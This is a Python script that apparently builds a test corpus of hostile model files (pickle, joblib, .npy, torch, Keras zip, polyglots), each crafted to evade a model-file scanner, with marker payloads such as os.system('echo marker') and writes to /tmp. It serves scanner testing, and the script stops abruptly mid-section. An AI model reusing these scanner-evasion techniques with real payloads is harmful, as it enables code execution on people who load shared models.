"""A second look: files whose tricks were found by reading the scanner itself. They passed it when they were made.

    python hostile.py FOLDER
"""
import sys, io, json, struct, zipfile, zlib, gzip, bz2, lzma, tarfile, base64, warnings, os
sys.dont_write_bytecode=True
sys.path.insert(0, os.path.dirname(os.path.dirname(os.path.abspath(__file__))))
warnings.simplefilter("ignore")
from opcodes import *
import archives as A, models as M, streams as S
import numpy as np, h5py, onnx
from onnx import helper
EVIL=S.EVIL; OLD=A.OLD; HON=A.HONEST
import tempfile; TMP=tempfile.mkdtemp()
F=Files(sys.argv[1])
def add(file,data,cat,tech,src="own",loader="pickle.load calls it",optional=False,refused=False):
    F.add(file,data,category=cat,technique=tech,source=src,loader=loader,optional=optional,refused=refused,hostile=True)
P="/tmp/deepfix-safety-marker"
g=name("builtins","getattr")
get=lambda o,a: call(g,o,a)
path=call(name("pathlib","PosixPath"),P)
wt=get(path,"write_text")
ns=lambda **k: build(call(name("types","SimpleNamespace")),k)
# ---------- fetched methods
c="fetched"
add("fetched_generator_ctor.pkl",pickled(call(name("numpy.random._pickle","__generator_ctor"),"marker",wt)),c,"bound Path.write_text handed to numpy's __generator_ctor, which calls its second argument","numpy/random/_pickle.py")
add("fetched_rebuild_type.pkl",pickled(call(name("torch._tensor","_rebuild_from_type_v2"),wt,name("torch","Tensor"),("marker",),None)),c,"the same handed to torch._tensor._rebuild_from_type_v2, which calls its first argument","torch/_tensor.py")
add("fetched_clip.pkl",pickled(call(name("numpy","clip"),ns(clip=get(call(name("collections","deque")),"append")),1,2)),c,"numpy.clip calls the attribute clip of whatever it is given","numpy/_core/fromnumeric.py _wrapfunc")
add("fetched_round.pkl",pickled(call(name("numpy","sum"),ns(sum=get(path,"unlink")))),c,"numpy.sum calls the attribute sum of whatever it is given; Path.unlink","numpy/_core/fromnumeric.py")
add("fetched_append.pkl",b"\x80\x04"+ns(append=wt)+push("marker")+b"a.",c,"APPEND calls the attribute append of the object on the stack")
add("fetched_appends.pkl",b"\x80\x04"+ns(extend=wt)+b"("+push("marker")+b"e.",c,"APPENDS calls the attribute extend of the object on the stack")
add("fetched_additems.pkl",b"\x80\x04"+ns(add=wt)+b"("+push("marker")+b"\x90.",c,"ADDITEMS calls the attribute add of the object on the stack")
cls=name("sklearn.model_selection._split","KFold")
setc=lambda fn: build(cls,(None,{"__setstate__":fn}))
add("fetched_class_setstate.pkl",b"\x80\x04"+setc(wt)+b"0"+build(Ops(cls+b")\x81"),"marker")+b".",c,"BUILD with slots puts a fetched method on a class as __setstate__; the next BUILD calls it")
add("fetched_frame_eval.pkl",pickled(call(name("numpy.random._pickle","__generator_ctor"),"@pd.compat.os.getcwd()",get(call(name("pandas.core.frame","DataFrame")),"eval"))),c,"bound DataFrame.eval handed on","pandas.DataFrame.eval evaluates text")
add("fetched_frame_query.pkl",pickled(call(name("numpy","clip"),ns(clip=get(call(name("pandas","DataFrame")),"to_pickle")),P,None)),c,"bound DataFrame.to_pickle called through numpy.clip")
add("fetched_tofile.pkl",b"\x80\x04"+ns(append=get(call(name("numpy","ndarray"),(4,),"u1"),"tofile"))+push(P)+b"a.",c,"ndarray.tofile called by APPEND")
gen=get(get(call(name("transformers.models.auto","AutoModel")),"gi_frame"),"f_builtins")
add("fetched_chain.pkl",b"\x80\x04"+build(cls,(None,{"__getattr__":get(name("sklearn.utils","Bunch"),"f_globals")}))+b"0"+build(call(name("sklearn.model_selection._split","KFold")),{})+b".",c,"__getattr__ of a class is replaced by a fetched function")
add("fetched_function_transformer.pkl",pickled(build(Ops(name("sklearn.preprocessing","FunctionTransformer")+b")\x81"),{"func":wt,"inverse_func":None,"validate":False})),c,"FunctionTransformer with a fetched Path.write_text; runs at transform")
add("fetched_polynomial_ufunc.pkl",pickled(call(name("numpy","exp"),build(call(name("numpy._core.multiarray","_reconstruct"),name("numpy","ndarray"),(0,),b"b"),(1,(1,),call(name("numpy","dtype"),"O",False,True),False,[ns(exp=get(path,"touch"))])))),c,"numpy.exp of an array of objects calls their method exp")
add("fetched_str_dunder.pkl",b"\x80\x04"+build(cls,(None,{"__setstate__":get(name("sklearn.utils","Bunch"),"update")}))+b".",c,"BUILD on a class replaces its __setstate__ (monkey patching)")
add("patch_setitem_global.pkl",b"\x80\x04"+name("sklearn.metrics","_SCORERS")+push("accuracy")+push("x")+b"s.",c,"SETITEM on a dictionary of the library that is named by an upper-case name",loader="changes a table of the loading process")
add("patch_class_attr.pkl",b"\x80\x04"+build(name("sklearn.model_selection._split","KFold"),(None,{"predict":wt}))+b".",c,"BUILD with slots patches a class of the loading process",loader="patches the class")
add("patch_torch_load.pkl",b"\x80\x04"+build(name("torch.utils.data.dataset","TensorDataset"),(None,{"__getitem__":name("torch.storage","_load_from_bytes")}))+b".",c,"BUILD on torch TensorDataset: __getitem__ becomes _load_from_bytes",loader="patches the class; every model then unpickles its input")
add("fetched_load_from_bytes.pkl",b"\x80\x04"+ns(append=name("torch.storage","_load_from_bytes"))+push(EVIL)[:0]+push(bytes(b"N0")+EVIL)+b"a.",c,"_load_from_bytes is not called by REDUCE but as the attribute append")
add("load_generator_ctor.pkl",pickled(call(name("numpy.random._pickle","__generator_ctor"),b"N0"+EVIL,name("torch.storage","_load_from_bytes"))),c,"_load_from_bytes handed to __generator_ctor with an inner pickle that begins without PROTO")
add("load_rebuild_type.pkl",pickled(call(name("torch._tensor","_rebuild_from_type_v2"),name("torch.storage","_load_from_bytes"),name("torch","Tensor"),(b"N0"+EVIL,),None)),c,"_load_from_bytes called by _rebuild_from_type_v2")
add("load_setstate.pkl",b"\x80\x04"+build(cls,(None,{"__setstate__":name("torch.storage","_load_from_bytes")}))+b"0"+build(Ops(cls+b")\x81"),A.Ops(push(b"N0"+EVIL)))+b".",c,"_load_from_bytes becomes a class's __setstate__ (a function would be bound; by deque it is not)",optional=True)
# ---------- bytes that change
c="bytes"
LOAD=S.LOAD
magic=b"\x80\x02\x8a\nl\xfc\x9cF\xf9 j\xa8P\x19."; proto=b"\x80\x02M\xe9\x03."; system=pickled({"protocol_version":1001,"little_endian":True,"type_sizes":{"short":2,"int":4,"long":4}},2)
head=magic+proto+system
arr=lambda b: Ops(b"\x96"+struct.pack("<Q",len(b))+b)
tail=EVIL+pickled([],2)
add("bytes_appends.pkl",b"\x80\x05"+LOAD+arr(head)+b"("+b"".join(push(x) for x in tail)+b"e\x85R.",c,"APPENDS lengthens a bytearray by a hostile pickle before it is loaded")
neutral=head+b"\x80\x04"+b"N0"*((len(EVIL)-4)//2)+(b"N." if (len(EVIL)-4)%2==0 else b"\x88.")[:2]+pickled([],2)
full=head+EVIL+pickled([],2)
neutral=head+b"\x80\x04N"+b"2"*(len(EVIL)-4)+b"."+pickled([],2); assert len(neutral)==len(full)
add("bytes_setitems.pkl",b"\x80\x05"+LOAD+arr(neutral)+b"("+b"".join(push(i)+push(full[i]) for i in range(len(full)) if full[i]!=neutral[i])+b"u\x85R.",c,"SETITEMS writes a hostile pickle into a bytearray before it is loaded")
# raw unicode: backslash pairs
def vline(b):
    return Ops(b"V"+b"".join(b"\\u%04x"%x if x in(10,13,0,26) or (x==92) else bytes([x]) for x in b)+b"\n")
k=60
inner_py=b"X"+struct.pack("<I",8*k)+b"\\"*0
# Python reads a doubled backslash before u as it stands
ev=b"0"+OLD[:-1]+b"0N."
pad=b"\\\\u0041"*k              # 7 bytes each in the line; Python: itself (7); machine: '\\' + 'A' (2)
pyl=7*k; macl=2*k
hdr=b"X"+struct.pack("<I",pyl)
def esc(b): return b"".join(b"\\u%04x"%x if x in (10,13,0,26,92) else (bytes([x])) for x in b)
rest=ev+b"a"*(pyl-macl-len(ev))
line=b"V"+esc(hdr)+pad+esc(rest)+b"."+b"\n"
add("bytes_double_backslash.pkl",b"\x80\x04"+LOAD+call(name("_codecs","encode"),Ops(line),"latin1")+b"\x85R.",c,"UNICODE text with doubled backslashes before \\u: Python leaves them, a simple reader undoes them, and a length then covers other opcodes","CPython raw-unicode-escape decoder")
# quoted string: \a is one char in Python
hdr=b"U"+bytes([2*k]); k2=60
line=b"S'"+b"".join(b"\\x%02x"%x for x in (0x55,2*k2))+b"\\a"*k2+b"."+b"Z"*(k2-1)+b"".join(b"\\x%02x"%x for x in ev)+b"'\n"
add("bytes_bell_escape.pkl",b"\x80\x04"+LOAD+call(name("_codecs","encode"),Ops(line),"latin1")+b"\x85R.",c,"STRING with \\a escapes, one byte in Python and two to a simple reader, so that a length covers other opcodes","CPython bytes escapes")
# same with continuation
line=b"S'"+b"".join(b"\\x%02x"%x for x in (0x55,2*k2))+b"\\v"*k2+b"."+b"Z"*(k2-1)+b"".join(b"\\x%02x"%x for x in ev)+b"'\n"
add("bytes_tab_escape.pkl",b"\x80\x04"+LOAD+call(name("_codecs","encode"),Ops(line),"latin1")+b"\x85R.",c,"the same with \\v")
# fill limit of names
fake=b"\x80\x04"+b"".join(b"csklearn\nA%d\n0"%i for i in range(9990))+b"N."
# outer: names count: getattr-free
def filler(n): return b"\x80\x04"+b"".join(b"csklearn\nA%d\n0"%i for i in range(n))+b"N."
inner=b"N0"+EVIL
for n,t in ((10000-1,"names"),):
    outer=b"\x80\x04"+LOAD+b"0"+push(filler(10000-1))+b"0"+LOAD+push(inner)+b"\x85R."
    add("bytes_name_limit.pkl",outer,c,"bytes that nobody loads name ten thousand harmless classes, so that a reader's list of names is full when the hostile inner pickle comes")
add("stream_name_limit.pth",magic+proto+pickled({"a":filler(10000)},2)+EVIL+pickled([],2),c,"the same in the old torch layout: the third pickle fills the list, the fourth is hostile",loader="torch.load runs it")
deep=EVIL
for _ in range(12): deep=pickled(call(LOAD,deep))
add("nested_twelve_deep.pkl",deep,c,"twelve pickles within each other")
deep=EVIL
for _ in range(6): deep=pickled(call(LOAD,A.torch_zip(deep)))
add("nested_archives_six_deep.pkl",deep,c,"six torch archives within each other")
add("nested_zip_deflated.pkl",pickled(call(LOAD,A.torch_zip(EVIL,method=zipfile.ZIP_DEFLATED))),c,"a torch archive in bytes whose data.pkl is deflated")
add("nested_zip_prefixed.pkl",pickled(call(LOAD,b"\x80\x02N."+A.torch_zip(EVIL))),c,"bytes that begin as an honest pickle and end as a torch archive",loader="torch.load refuses (is_zipfile looks at the first bytes)",refused=True)
# ---------- names unread
c="opcodes2"
st=lambda s: call(name("builtins","str"),s)
nm=Ops(st("os")+st("system")+b"\x93")
run=Ops(nm+push("echo marker")+b"\x85R")
add("computed_name.pkl",b"\x80\x04"+run+b".",c,"STACK_GLOBAL of texts that builtins.str makes")
add("computed_name_no_proto.pkl",b"N0"+run+b".",c,"the same without PROTO")
add("computed_name_second.pkl",HON+b"\x80\x04"+run+b".",c,"the same in the second pickle",loader="runs it at the second load")
add("computed_name_legacy.pth",magic+proto+system+b"\x80\x04"+run+b"."+pickled([],2),c,"the same as the object of the old torch layout",loader="torch.load runs it")
add("computed_name_broken.npy",A.npy("{'descr': '|O', 'fortran_order': False, 'shape': (1,), }",b"\x80\x04"+run+b"\xfe"),c,"the same in an array of objects whose pickle breaks after the call",loader="numpy.load(allow_pickle=True) runs it")
add("computed_name_broken.pt",A.torch_zip(b"\x80\x04"+run+b"\xfe"),c,"the same in data.pkl that breaks after the call",loader="torch.load runs it")
add("ext_no_proto.pkl",b"N0\x82\x7b)R.",c,"EXT1 without PROTO (needs a registered code)","copyreg extensions",optional=True)
u=b"\x80\x04K\x01p1_0\n0g1_0\n0"+EVIL[2:]
add("memo_underscore.pkl",u,c,"a memo index written 1_0, as Python's int allows","CPython PyLong_FromString")
add("memo_underscore_no_proto.pkl",u[2:],c,"the same without PROTO")
add("memo_underscore.npy",A.npy("{'descr': '|O', 'fortran_order': False, 'shape': (1,), }",u),c,"the same in an array of objects",loader="numpy.load(allow_pickle=True) runs it")
add("memo_underscore.npz",A.zipped([("a.npy",A.npy("{'descr': '|O', 'fortran_order': False, 'shape': (1,), }",u))]),c,"the same in an archive",loader="numpy.load(allow_pickle=True) runs it")
add("memo_underscore.pt",A.torch_zip(u),c,"the same in data.pkl",loader="torch.load runs it")
add("memo_underscore_legacy.pth",magic+proto+system+u+pickled([],2),c,"the same as the object of the old torch layout",loader="torch.load runs it")
add("memo_underscore.tar",A.legacy_tar(u),c,"the same in the tar layout",loader="torch.load up to 2.5 runs it")
add("memo_underscore_package.pt",A.zipped([("model/archive/data.pkl",HON),("model/net/net.pkl",u),("model/version",b"3\n")]),c,"the same in a second .pkl of the archive (torch.package)",loader="PackageImporter.load_pickle runs it")
add("memo_minus_zero.pkl",b"\x80\x04K\x01p-0\n0g-0\n0"+EVIL[2:],c,"a memo index written -0")
add("memo_minus_zero.npy",A.npy("{'descr': '|O', 'fortran_order': False, 'shape': (1,), }",b"\x80\x04K\x01p-0\n0g-0\n0"+EVIL[2:]),c,"the same in an array of objects",loader="numpy.load(allow_pickle=True) runs it")
add("thousand_first.pkl",b"\x80\x02N."*1000+EVIL,c,"a thousand honest pickles, then the hostile one",loader="runs it at the last load of a loop")
add("magic_then_stream.pkl",b"\x80\x02\x8a\nl\xfc\x9cF\xf9 j\xa8P\x19."+b"\x80\x02N."*4+EVIL,c,"a stream of six that begins with torch's magic number",loader="runs it at the sixth load of a loop")
big=b"\x80\x04"+b"N0"*10_500_000+EVIL[2:]
add("many_opcodes.npz",A.zipped([("a.npy",A.npy("{'descr': '|O', 'fortran_order': False, 'shape': (1,), }",big))],zipfile.ZIP_DEFLATED),c,"21 million opcodes before the call, in an array of objects",loader="numpy.load(allow_pickle=True) runs it")
add("many_opcodes.pkl.gz",gzip.compress(big,mtime=0),c,"21 million opcodes before the call",loader="pandas and joblib unpack and run it")
# 2 saves to one file in old layout
key=pickled(["1"],2); stor=struct.pack("<Q",2)+bytes(8)
add("legacy_saved_twice.pth",head+pickled({"epoch":3},2)+key+stor+head+EVIL+pickled([],2),c,"two torch.save to one file in the old layout, the second hostile behind raw storages","torch.save to an open file, twice",loader="the second torch.load runs it")
# legacy tar with storages pickles behind raw bytes
st1=pickled(2,2)+pickled(("1","cpu",name("torch","FloatStorage")),2)+struct.pack("<Q",1)+bytes(4)+EVIL
add("legacy_storages.tar",A.tarred([("storages",st1),("tensors",pickled(0,2)),("pickle",HON)]),c,"tar layout: a hostile pickle behind the raw bytes of the first storage","torch.serialization.legacy_load",loader="torch.load up to 2.5 runs it")
add("tar_many_members.tar",A.tarred([("sys_info",HON)]+[(f"f{i}",b"") for i in range(10000)]+[("storages",pickled(0,2)+pickled([],2)),("tensors",pickled(0,2)),("pickle",EVIL)]),c,"tar layout with ten thousand empty members first",loader="torch.load up to 2.5 runs it")
bad=bytearray(A.legacy_tar(EVIL)); 
t=A.tarred([("storages",pickled(0,2)+pickled([],2)),("tensors",pickled(0,2)),("pickle",EVIL)]).rstrip(b"\0"); t=t+bytes(-len(t)%512)+b"x"*512
add("tar_damaged_end.tar",t,c,"the tar archive is damaged behind the hostile member",loader="torch.load up to 2.5 runs it")
old=bytearray(A.legacy_tar(EVIL))
for i in range(0,len(old)-512,512):
    if old[i+257:i+262]==b"ustar":
        old[i+257:i+265]=bytes(8); old[i+148:i+156]=b" "*8; old[i+148:i+156]=b"%06o\0 "%sum(old[i:i+512])
add("tar_v7.tar",bytes(old),c,"the tar archive is of the old kind without ustar",loader="torch.load up to 2.5 runs it")
out=io.BytesIO()
with tarfile.open(fileobj=out,mode="w:",format=tarfile.USTAR_FORMAT) as t:
    for f,d in (("cos\nsystem\n(Vecho marker\ntR.",b""),("model.pkl",HON)):
        i=tarfile.TarInfo(f); i.size=len(d); t.addfile(i,io.BytesIO(d))
add("tar_name_is_pickle.pkl",out.getvalue(),"polyglot","a tar archive whose first member's name is a hostile pickle of protocol 0",loader="pickle.load runs the name")
# ---------- joblib
c="joblib2"
made,state=A.wrapper((2,),"u1")
inner=Ops(EVIL[2:-1])
hid=b"N.\xff\xff"
def jl(made,state,data,after=inner,proto=b"\x80\x04"): return proto+made+push(state)+b"b"+data+b"0"+after+b"."
s4=dict(state,shape=(len(hid),))
J="joblib.load runs it"
add("joblib_new_index.joblib",jl(call(name("pandas.core.indexes.base","_new_Index"),name("joblib.numpy_pickle","NumpyArrayWrapper"),{}),s4,hid),c,"the array's description is made by pandas' _new_Index",loader=J)
add("joblib_built_twice.joblib",b"\x80\x04"+made+b"\x94"+push(s4)+b"b"+hid+b"0h\x00}b"+hid+b"0"+inner+b".",c,"the array's description is recalled and given an empty state: the old one holds",loader=J)
add("joblib_state_first.joblib",jl(made,(s4,{}),hid),c,"state and empty slots",loader=J)
add("joblib_state_defaultdict.joblib",jl(made,Ops(call(name("collections","defaultdict"))+b"("+b"".join(push(a)+push(b) for a,b in s4.items())+b"u"),hid),c,"the state is a defaultdict",loader=J)
add("joblib_shape_size.joblib",jl(made,dict(state,shape=call(name("builtins","tuple"),[len(hid)])),hid),c,"the shape is made by tuple()",loader=J)
add("joblib_shape_bool.joblib",jl(made,dict(state,shape=(True,len(hid))),hid),c,"the shape holds True, which is 1",loader=J)
add("joblib_shape_float.joblib",jl(made,dict(state,shape=(float(len(hid)),)),hid),c,"the shape holds a float",loader=J)
add("joblib_aligned_true.joblib",jl(made,dict(s4,numpy_array_alignment_bytes=True,shape=(3,)),b"\x03N.\xff"+b"\x43\x80\x00"),c,"the alignment is True, which is no integer to a simple reader",loader=J)
dt=build(call(name("numpy","dtype"),"V%d",False,True),None)
def record(n): return build(call(name("numpy","dtype"),f"V{n}",False,True),(3,"|",None,("a",),{"a":(call(name("numpy","dtype"),"O8",False,True),0)},n,1,16+4+2))
ev2=b"\x80\x04"+text("os")+b"\x94"+text("system")+b"\x940"+b"0h\x00h\x01\x93"+push("echo marker")+b"\x85R."
outerm=b"\x80\x04"+text("collections")+b"\x94"+text("OrderedDict")+b"\x9400"
add("joblib_record_state.joblib",outerm+made+push(dict(state,shape=(1,),dtype=record(len(ev2))))+b"b"+ev2+b".",c,"the array's type is V, and becomes a record of objects by its state; inner and outer memo differ",loader=J)
add("joblib_other_file_path.joblib",b"\x80\x04"+name("joblib.numpy_pickle","NDArrayWrapper")+b")\x81"+push({"filename":call(name("pathlib","PosixPath"),"../../deepfix-safety.npy"),"subclass":name("numpy","ndarray"),"allow_mmap":False})+b"b.",c,"an array in another file outside the folder, its name a Path",loader="joblib.load unpickles the file named")
add("joblib_code_by_append.pkl",b"\x80\x04"+made+push(dict(state,shape=(200,)))+b"b0"+(build(call(name("types","SimpleNamespace")),{"append":name("os","system")})+push("echo marker")+b"a.").ljust(200,b"\xff")+b".",c,"opcodes where joblib sees an array; the function is not called by REDUCE but by APPEND",loader="pickle.load runs it")
z=A.wrapper((4,),"u1")
add("joblib_zlib_streams.joblib",zlib.compress(b"\x80\x04N0")+zlib.compress(EVIL[2:]),c,"the pickle goes on in a second zlib stream",loader=J)
add("joblib_lzma_small_dict.pkl.lzma",lzma.compress(EVIL,lzma.FORMAT_ALONE,filters=[{"id":lzma.FILTER_LZMA1,"dict_size":4096}]),c,"lzma with a dictionary of 4 kB",loader=J)
add("joblib_lzma_props.pkl.lzma",lzma.compress(EVIL,lzma.FORMAT_ALONE,filters=[{"id":lzma.FILTER_LZMA1,"lc":0,"lp":0,"pb":0}]),c,"lzma with other properties",loader="lzma.open, and pandas by the name, unpack it")
gz=bytearray(gzip.compress(EVIL,mtime=0)); gz[8]=0x7b
add("gzip_brace.pkl.gz",bytes(gz),c,"gzip whose ninth byte is a brace, as in safetensors",loader="pandas and joblib unpack and run it")
zs=bytearray(A.tarred([("abcdefgh{x",b""),("frame.pkl",EVIL)]))
add("tar_brace.pkl.tar",A.tarred([("abcdefgh{x.pkl",EVIL)]),c,"tar whose ninth byte is a brace",loader="pandas.read_pickle unpacks and runs it")
big=b"\x80\x04B"+struct.pack("<I",540<<20)
o=io.BytesIO()
with gzip.GzipFile(fileobj=o,mode="wb",mtime=0) as f:
    f.write(big)
    for _ in range(540): f.write(bytes(1<<20))
    f.write(b"0"+EVIL[2:])
add("gzip_540_mb.pkl.gz",o.getvalue(),c,"540 MB of zeros before the call",loader="pandas and joblib unpack and run it")
# ---------- numpy
c="numpy2"
N="numpy.load(allow_pickle=True) runs it"
for f,h,t in (("comma_time","{'descr': 'M8[ns],O', 'fortran_order': False, 'shape': (1,), }","the type is a list with commas that begins with a time"),
 ("comma_delta_field","{'descr': [('a', 'm8,O')], 'fortran_order': False, 'shape': (1,), }","the same in a field"),
 ("octal_key","{'descr': '<f8', 'fortran_order': False, 'shape': (0,), '\\144escr': '|O', }","the type's key is given twice, the second in octal escapes"),
 ("named_key","{'descr': '<f8', 'fortran_order': False, 'shape': (0,), '\\N{LATIN SMALL LETTER D}escr': '|O', }","the same with a named escape"),
 ("continued_key","{'descr': '<f8', 'fortran_order': False, 'shape': (0,), 'de\\\nscr': '|O', }","the same with an escaped line end"),
 ("comment","{'descr': '|O', # '<f8'\n 'fortran_order': False, 'shape': (1,), }","a comment in the header"),
 ("plus","{'descr': '|O', 'fortran_order': False, 'shape': (+1,), }","a sign in the shape")):
    add(f"numpy_{f}.npy",A.npy(h,EVIL),c,t,"numpy.lib.format, ast.literal_eval",loader=N)
hon=A.npy("{'descr': '<f8', 'fortran_order': False, 'shape': (1,), }",bytes(8)); obj=A.npy("{'descr': '|O', 'fortran_order': False, 'shape': (1,), }",EVIL)
add("numpy_second_array.npy",hon+obj,c,"two arrays in one file, the second of objects","numpy.load of an open file, twice",loader="the second numpy.load runs it")
add("numpy_then_pickle.npy",hon+EVIL,c,"a pickle behind an array in one file","numpy.load of an open file, then pickle.load",loader="the second load runs it")
def mixed(m,first="a.npy",second="b.npy"):
    o=io.BytesIO()
    with zipfile.ZipFile(o,"w") as zf:
        zf.writestr(A.entry(first),hon); i=A.entry(second); i.compress_type=m; zf.writestr(i,obj,m)
    return o.getvalue()
add("numpy_bzip2.npz",mixed(zipfile.ZIP_BZIP2),c,"the second array of the archive is packed by bzip2","zipfile unpacks it",loader=N)
add("numpy_lzma.npz",mixed(zipfile.ZIP_LZMA),c,"the second array of the archive is packed by lzma","zipfile unpacks it",loader=N)
# header > 1MB
hh="{'descr': [('a','|O')], 'fortran_order': False, 'shape': (1,), }"+" "*(1<<20)+"  "
add("numpy_huge_header.npy",A.npy(hh,EVIL,2),c,"a header of more than a megabyte",loader=N)
pad_comment=A.npy("{'descr': '|O', 'fortran_order': False, 'shape': (1,), }",b"N0"+EVIL,3)
add("numpy_v3_late.npy",pad_comment,c,"format 3, the pickle begins without PROTO",loader=N)
# ---------- zip
c="zip2"
lam=M.sequential(M.lambda_layer()); den=M.sequential(M.dense())
K="keras.saving reads it by Python's zipfile"
js=lambda x: json.dumps(x).encode()
kz=M.keras_zip(den,after=[("config.jsonX!",js(lam))])
add("zip_nul_in_name.keras",kz.replace(b"config.jsonX!",b"config.json\0!"),c,"a second config.json whose name goes on behind a NUL; Python cuts it there","zipfile.ZipInfo",loader=K)
kz=M.keras_zip(lam).replace(b"config.json",b"CONFIGxjson")
def upath(real,shown,data,honest):
    o=io.BytesIO(); 
    with zipfile.ZipFile(o,"w") as zf:
        zf.writestr(A.entry("metadata.json"),b"{}"); zf.writestr(A.entry("config.json"),honest); zf.writestr(A.entry("model.weights.h5"),M.weights("h5"))
        i=A.entry(shown); r=real.encode(); i.extra=struct.pack("<HHBL",0x7075,5+len(r),1,zlib.crc32(shown.encode()))+r
        zf.writestr(i,data)
    return o.getvalue()
add("zip_unicode_path.keras",upath("config.json","notes.txt",js(lam),js(den)),c,"an entry named notes.txt whose Unicode path field says config.json (Python 3.12 and later)","APPNOTE 4.6.9; zipfile._decodeExtra",loader=K)
# zip64 with two records
def zip64(near,far):
    "near: hostile zip; far: honest zip in front; records for both, the locator points to far"
    def split(z):
        e=z.rindex(b"PK\x05\x06"); n,=struct.unpack_from("<H",z,e+10); size,off=struct.unpack_from("<II",z,e+12); return z[:e],n,size,off
    hb,hn,hs,ho=split(far)
    rec=lambda n,s,o: b"PK\x06\x06"+struct.pack("<QHHIIQQQQ",44,45,45,0,0,n,n,s,o)
    first=hb+rec(hn,hs,ho); farat=len(hb)
    nb=A.offset_zip(near,len(first)); eb,en,es,eo=split(nb)
    body=first+eb; r=rec(en,es,eo)
    end=body+r+b"PK\x06\x07"+struct.pack("<IQI",0,farat,1)+b"PK\x05\x06"+struct.pack("<HHHHIIH",0,0,0xffff,0xffff,0xffffffff,0xffffffff,0)
    return end
add("zip_two_zip64.keras",zip64(M.keras_zip(lam),M.keras_zip(den)),c,"two zip64 records: the locator points to one, the other stands before it; Python takes the latter","zipfile._EndRecData64",loader=K)
# negative concat: python counts back
def negative(hostile,honest):
    D=len(honest)
    # layout: [hostile local headers][pad.. honest local files][hostile directory], offsets in directory shifted by D' so absolute offsets meet honest ones
    h=hostile; e=h.rindex(b"PK\x05\x06"); size,off=struct.unpack_from("<II",h,e+12)
    ho=honest; he=ho.rindex(b"PK\x05\x06"); hs,hoff=struct.unpack_from("<II",ho,he+12)
    assert off==hoff, (off,hoff)
    body=h[:off]+ho[:hoff]+h[off:e]
    body=bytearray(body); at=off+hoff
    # true start of the directory is off+hoff; hostile local headers at x; declare x+off, and the directory at (off+hoff)+off
    p=at
    while body[p:p+4]==b"PK\x01\x02":
        x,=struct.unpack_from("<I",body,p+42); struct.pack_into("<I",body,p+42,x+off); p+=46+sum(struct.unpack_from("<HHH",body,p+28))
    end=bytearray(h[e:]); struct.pack_into("<I",end,16,at+off)
    return bytes(body+end)
cfg1=js(lam); cfg2=js(den); cfg2=cfg2+b" "*(len(cfg1)-len(cfg2))
try: add("zip_negative_shift.keras",negative(M.keras_zip(cfg1),M.keras_zip(cfg2)),c,"the directory is said to stand behind its place, so Python moves all addresses back; as written they lead to honest entries","zipfile._RealGetContents",loader=K)
except Exception as ex: print("neg",ex)
# archive error behind honest beginnings
bad=js(lam).replace(b'"Lambda"',b'"\\u004cambda"').replace(b'"__lambda__"',b'"__\\u006cambda__"').replace(b'"trick"',b'"\\ud800"')
add("zip_broken_json_behind_pickle.keras",b"\x80\x02N."+M.keras_zip(bad),c,"an honest pickle, then a Keras archive whose configuration holds half a surrogate (which Python takes) and an escaped Lambda",loader=K)
add("keras_surrogate.keras",M.keras_zip(bad),"keras2","a configuration with half a surrogate, which Python takes and others refuse, and an escaped Lambda",loader=K)
big=js(lam).replace(b'"Lambda"',b'"\\u004cambda"').replace(b'"__lambda__"',b'"__\\u006cambda__"').replace(b'"trick"',b'1e999')
add("keras_huge_number.keras",M.keras_zip(big),"keras2","a number beyond a double, which Python takes, and an escaped Lambda",loader=K)
sf=struct.pack("<Q",54)+b'{"w":{"dtype":"F32","shape":[1],"data_offsets":[0,4]}}'[:54]+bytes(4)
hdr=b'{"w":{"dtype":"F32","shape":[1],"data_offsets":[0,4]}}'
sf=struct.pack("<Q",len(hdr))+hdr+bytes(4)
add("zip_broken_json_behind_safetensors.keras",sf+M.keras_zip(bad),c,"safetensors, then the same",loader=K)
add("zip_bzip2_config.keras",(lambda o:(lambda zf:(zf.writestr(A.entry("metadata.json"),b"{}"),zf.writestr(A.entry("config.json"),js(lam),zipfile.ZIP_BZIP2),zf.writestr(A.entry("model.weights.h5"),M.weights("h5")),zf.close(),o.getvalue())[-1])(zipfile.ZipFile(o,"w")))(io.BytesIO()),c,"config.json is packed by bzip2",loader=K)
inner=A.torch_zip(EVIL)
for _ in range(4): inner=A.zipped([("part.pt",inner)])
add("zip_five_deep.zip",A.zipped([("a.npy",hon),("part.pt",inner)]),c,"a torch archive under five archives, beside an honest array",loader="unpacked by hand, torch.load runs it",optional=True)
tz=A.torch_zip(EVIL)
sp=b"PK\x07\x08"+A.offset_zip(tz,4)
add("zip_split_marker.pt",sp,c,"the marker of a split archive first",loader="torch.load refuses it as it looks at the first bytes",refused=True)
add("zip_trailing_64k.pt",tz+bytes(70000),c,"70000 bytes behind the archive",loader="torch.load refuses it",refused=True)
add("zip_data_pkl_nul.pt",A.zipped([("archive/data.pklX",EVIL),("archive/data.pkl",HON)]).replace(b"data.pklX",b"data.pkl\0"),c,"data.pkl with a NUL behind, the honest one last",loader="Python's zipfile reads the last, miniz the exact name",optional=True)
d64=bytearray(A.zipped([("archive/data.pkl",HON),("archive/data.pkl",EVIL)],zipfile.ZIP_DEFLATED))
add("zip_doubled_deflated.pt",bytes(d64),c,"two data.pkl, deflated",loader="Python's zipfile reads the last")
# ---------- polyglots
c="polyglot"
ev=OLD
add("poly_catboost.pkl",b"CBM1"+b"x"*64+b"0"+EVIL[2:],c,"a pickle that begins CBM1, as CatBoost does")
# safetensors + pickle
n=0x8a+256*31
data=b"0"+EVIL[2:]
meta=bytearray(b'{"w":{"dtype":"U8","shape":[%d],"data_offsets":[0,%d]},"__metadata__":{"a":"'%(len(data),len(data)))
while len(meta)<n: meta+=b"x"
meta[n-3:]=b'"}}'
meta=meta[:n]; raw=bytearray(struct.pack("<Q",n)+meta+data)
pos=2+31  # after LONG1
i=pos
# land inside the metadata string: LONG1 takes 31 bytes: position 33 is in the header text before the string
start=raw.index(b'"a":"')+5
need=start-2
# choose n so that LONG1 covers up to the string
cover=start-2+5
n=0x8a+256*cover
meta=bytearray(b'{"w":{"dtype":"U8","shape":[%d],"data_offsets":[0,%d]},"__metadata__":{"a":"'%(len(data),len(data)))+b"x"*n
meta=meta[:n]; meta[n-3:]=b'"}}'
raw=bytearray(struct.pack("<Q",n)+meta+data); i=2+cover; end=8+n
while True:
    left=end-i
    if left<=126+2:
        raw[i:i+2]=b"U"+bytes([left-2]); break
    step=126 if left-2-126-1>=40 else 80
    raw[i:i+2]=b"U"+bytes([step]); raw[i+2+step:i+3+step]=b"0"; i+=3+step
add("poly_safetensors.pkl",bytes(raw),c,"a whole safetensors file that is a pickle too: its length is LONG1, its metadata are texts, its tensor is a call")
# GGUF
t=2*65536+0x42*256+1
